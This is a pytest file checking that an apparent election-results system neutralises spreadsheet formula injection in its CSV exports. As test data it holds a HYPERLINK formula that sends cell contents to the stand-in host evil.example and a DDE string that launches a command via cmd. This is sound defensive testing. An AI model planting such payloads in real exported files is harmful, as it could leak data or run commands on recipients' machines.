"""Every CSV we write is safe to open in a spreadsheet (issue 12): a text cell starting with
= + - @ tab or carriage return is neutralised with a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import aiohttp
import pytest

from catd_node import csvsafe
from catd_node.actas import classify
from hq import cli
from sync import protocol
from tests.hqkit import VALUES_A, make_node

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
EVIL_KEY = '=HYPERLINK("http://evil.example/?d="&A1,"ver acta")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "=\n=2"])
def test_a_formula_looking_text_cell_gets_a_leading_quote(text):
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["DIP-14-01-0123-B01", "", "ILEGIBLE", " =1", "'=1", "100", "Ñ=1"])
def test_other_text_is_written_as_it_is(value):
    assert csvsafe.cell(value) == value


@pytest.mark.parametrize("value", [0, 120, 99999, None])
def test_numbers_and_empty_cells_stay_as_they_are(value):
    assert csvsafe.cell(value) == value


def test_the_writers_neutralise_every_text_cell():
    out = io.StringIO()
    writer = csvsafe.dict_writer(out, ["a", "b", "c"])
    writer.writeheader()
    writer.writerow({"a": "=1", "b": 7, "c": "@x"})
    rows = csvsafe.writer(out)
    rows.writerow(["-2", 3, "ok"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["a", "b", "c"], ["'=1", "7", "'@x"], ["'-2", "3", "ok"]]


async def test_export_csv_neutralises_formula_cells_from_any_packet_text(hq_dir, hq_server, tmp_path: Path):
    """A hostile node's chain: its node id, the image name its packets link, and an acta key
    outside the catalog are text that could reach `catd-hq export --csv` (values cannot: HQ
    re-validates them as numbers, ILEGIBLE or SIN_DATO)."""
    node = make_node(tmp_path / "node", hq_dir, "-CATD-99")
    ledger = node.ledger()
    try:
        for key, image in ((EVIL_KEY, "=cmd|' /C calc'!A0"), ("DIP-14-01-0123-B01", "\r=2")):
            ledger.append("acta.digitized", {
                "image": {"sha256": image, "bytes": 1, "format": "webp", "width": 1, "height": 1, "dpi": 200},
                "original": {"sha256": image, "bytes": 1, "name": "x.jpg"},
                "source": {"kind": "scanner", "id": "s"}, "acta": key, "identified_by": "filename"})
            captured = ledger.append("acta.captured", {"acta": key, "image_sha256": image,
                                                       "values": VALUES_A, "by": "=ana", "round": 1})
            cls = classify(node.election, key, VALUES_A)
            ledger.append("acta.verified", {"acta": key, "image_sha256": image, "values": VALUES_A,
                                            "class": cls.cls, "observations": list(cls.observations),
                                            "total": cls.total, "captured_seq": captured.seq, "by": "=beto"})
        chain = ledger.packets()
    finally:
        ledger.close()
    async with aiohttp.ClientSession() as session:
        async with session.post(hq_server.url + protocol.PACKETS_PATH, data=protocol.frame(chain)) as resp:
            assert resp.status == 200, await resp.text()
        async with session.get(hq_server.url + protocol.CONFLICTS_PATH) as resp:
            conflicts = (await resp.json())["list"]
    # the formula key is refused by the count (not an acta key), never a row
    assert [(c["reason"], c["detail"]) for c in conflicts] == [
        ("valores_invalidos", "acta: not in the catalog and not an acta key")]

    out = tmp_path / "actas.csv"
    assert cli.main(["-d", str(hq_dir.root), "export", "--csv", str(out)]) == 0
    table = list(csv.reader(out.open(encoding="utf-8", newline="")))
    header, body = table[0], table[1:]
    assert len(body) == 1
    for line in body:
        for name, text in zip(header, line, strict=True):
            assert not text.startswith(DANGEROUS), f"{name}={text!r} would run as a formula"
    [row] = [dict(zip(header, line, strict=True)) for line in body]
    assert row["node"] == "'-CATD-99" and row["image_sha256"] == "'\r=2"
    assert row["MORENA"] == "150" and row["total"].isdigit()  # numbers stay numbers
